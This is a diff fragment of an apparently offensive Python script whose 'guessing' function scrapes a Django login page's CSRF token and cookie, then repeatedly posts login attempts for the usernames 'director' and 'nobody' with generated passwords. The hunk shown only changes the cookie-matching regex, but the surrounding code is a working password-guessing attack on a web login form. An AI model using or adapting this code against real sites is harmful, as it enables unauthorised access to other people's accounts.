@@ -151,7 +151,7 @@ async def guessing(attack: Attack, number: int) -> None:
     finally:
         writer.close()
     token = "".join(re.findall(r'name="csrfmiddlewaretoken" value="(\w+)"', page)[:1])
-    cookie = "".join(re.findall(r"csrftoken=\w+", head))
+    cookie = "".join(re.findall(r"csrftoken-\w+=\w+", head))
     for turn in range(8):
         name = "director" if turn % 2 else f"nobody{number}"
         body = f"csrfmiddlewaretoken={token}&username={name}&password={word()}".encode()
